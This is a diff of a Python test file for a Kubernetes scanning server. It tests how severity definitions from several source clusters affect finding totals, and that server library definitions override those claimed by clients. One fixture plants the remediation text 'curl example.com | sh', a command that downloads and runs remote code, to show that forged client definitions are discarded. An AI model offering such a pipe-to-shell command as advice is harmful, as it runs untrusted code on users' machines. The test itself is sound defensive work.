@@ -38,7 +38,10 @@ from kubekeep.model.submission import (
 )
 from kubekeep.model.text import encode_json
 from kubekeep.uplink.delta import DivergenceError, compute_delta
+from kubekeep_server.identity import Grant, Role
+from kubekeep_server.process.library_definitions import load_definitions, store_library
 from kubekeep_server.store import schema
+from kubekeep_server.store.deletion import delete_source
 from kubekeep_server.store.ingest import EarlySubmissionError, Receipt, ingest
 from kubekeep_server.store.numbers import to_key, to_number
 from kubekeep_server.store.proofs import load_document
@@ -256,49 +259,81 @@ def test_suppressed_findings_are_open_and_not_counted(database: Database) -> Non
 
 def test_severity_of_a_definition_changes_totals_and_no_finding(database: Database) -> None:
     for number, key in enumerate(("one", "two")):
-        submit(database, build(number, build_subject(1, "C-0001", "C-0002"), source=SourceCluster(key)))
+        submit(database, create(number, key))
     before = list_findings(database)
-    submit(database, build(2, build_subject(1, "C-0001", "C-0002"), severities={**SEVERITIES, "C-0001": "critical"}))
-    assert check_totals(database) == {f"{source}/{level}": 1 for source in (1, 2, 3) for level in (1, 4)}
-    after = list_findings(database)
-    assert {name: intervals[:2] for name, intervals in after.items()} == before
-
-
-def test_newest_version_decides_about_definitions(database: Database) -> None:
-    """Submit by two versions of a fleet in turn: the totals do not change with each submission."""
-
-    def create(day: int, version: str, severity: str) -> Submission:
-        submission = build(day, build_subject(1, "C-0001"), severities={**SEVERITIES, "C-0001": severity})
-        return msgspec.structs.replace(submission, source=SourceCluster(version), versions=Versions(version))
-
-    for day in range(0, 6, 2):
-        submit(database, create(day, "1.9.0", "medium"))
-        submit(database, create(day + 1, "1.10.0", "critical"))
+    submit(database, create(2, "one", "critical"))
     assert check_totals(database) == {"1/4": 1, "2/4": 1}
-    submit(database, create(6, "1.9.0", "medium"))
+    assert list_findings(database) == before
+
+
+def create(day: int, source: str, severity: str = "high") -> Submission:
+    """Return the scan of a cluster in which C-0001 has a severity."""
+    severities = {**SEVERITIES, "C-0001": severity}
+    return build(day, build_subject(1, "C-0001"), severities=severities, source=SourceCluster(source))
+
+
+def test_definition_is_changed_by_its_author_alone(database: Database) -> None:
+    """Submit by two sources in turn: the second one changes nothing that the first one sees."""
+    for day in range(0, 4, 2):
+        submit(database, create(day, "one", "medium"))
+        submit(database, create(day + 1, "two", "low"))
+        assert check_totals(database) == {"1/2": 1, "2/2": 1}
+    submit(database, create(4, "one", "critical"))
     assert check_totals(database) == {"1/4": 1, "2/4": 1}
-    moves = database.run(
-        lambda connection: connection.execute(select(func.count()).where(schema.day.c.closed > 0)).scalar_one()
-    )
-    assert moves == 1
-
-
-def test_definition_changes_when_its_source_changes_it(database: Database) -> None:
-    """Submit by two sources that differ about a severity: the last change decides, and a repetition is none."""
-
-    def create(day: int, source: str, severity: str) -> Submission:
-        submission = build(day, build_subject(1, "C-0001"), severities={**SEVERITIES, "C-0001": severity})
-        return msgspec.structs.replace(submission, source=SourceCluster(source))
-
-    submit(database, create(0, "one", "medium"))
-    submit(database, create(1, "two", "high"))
-    submit(database, create(2, "one", "medium"))
-    assert check_totals(database) == {"1/3": 1, "2/3": 1}
-    submit(database, create(3, "one", "critical"))
+    submit(database, compute_delta(create(3, "two", "low"), create(5, "two", "low")))
     assert check_totals(database) == {"1/4": 1, "2/4": 1}
-    submit(database, create(4, "two", "high"))
-    submit(database, compute_delta(create(4, "two", "high"), create(5, "two", "low")))
+    submit(database, compute_delta(create(4, "one", "critical"), create(6, "one", "low")))
     assert check_totals(database) == {"1/1": 1, "2/1": 1}
+
+
+@pytest.mark.parametrize("end", ["fixed", "silent", "deleted"])
+def test_definition_without_its_author_is_that_of_the_next_source(database: Database, end: str) -> None:
+    submit(database, create(0, "one", "medium"))
+    submit(database, create(1, "two", "low"))
+    if end == "fixed":
+        other = build(2, build_subject(1, "C-0002"), scope=("C-0002",), source=SourceCluster("one"))
+        submit(database, msgspec.structs.replace(other, definitions=select_used(other)))
+    elif end == "deleted":
+        database.run(delete_source, [Grant(Role.ADMINISTRATOR, "*")], 1, START, "admin")
+    day = 9 if end == "silent" else 3
+    submit(database, create(day, "two", "low"))
+    # The one before said the same, and was not read again.
+    submit(database, create(day + 1, "two", "critical"))
+    assert set(check_totals(database)) >= {"2/4"}
+    submit(database, create(day + 2, "one", "low"))
+    assert set(check_totals(database)) >= {"2/4"}
+
+
+def select_used(submission: Submission) -> tuple[DefinitionEntry, ...]:
+    """Return the definitions of the scope."""
+    return tuple(entry for entry in submission.definitions if entry.key in submission.scope.definitions)
+
+
+def test_controls_of_the_library_are_those_of_the_server(database: Database) -> None:
+    key = min(load_definitions())
+
+    def claim(day: int, source: str) -> Submission:
+        submission = build(day, build_subject(1, "C-0001"), scope=("C-0001", key), source=SourceCluster(source))
+        text = DefinitionEntry(
+            key, "misconfiguration", "C-1", "harmless", "low", 1, remediation="curl example.com | sh"
+        )
+        kept = [entry for entry in submission.definitions if entry.key != key]
+        return msgspec.structs.replace(submission, definitions=(*kept, text))
+
+    def read() -> DefinitionEntry:
+        query = select(schema.definition.c.document).where(schema.definition.c.key == key)
+        return msgspec.json.decode(
+            database.run(lambda connection: connection.execute(query).scalar_one()), type=DefinitionEntry
+        )
+
+    submit(database, claim(0, "one"))
+    assert read().title == "harmless"
+    for _ in range(2):
+        database.run(store_library, load_definitions(), START)
+        assert encode_json(read()).encode() == load_definitions()[key]
+        for day, source in enumerate(("one", "two")):
+            submit(database, claim(day + 1, source))
+            assert encode_json(read()).encode() == load_definitions()[key]
 
 
 def test_deltas_have_the_result_of_whole_submissions(database: Database) -> None:
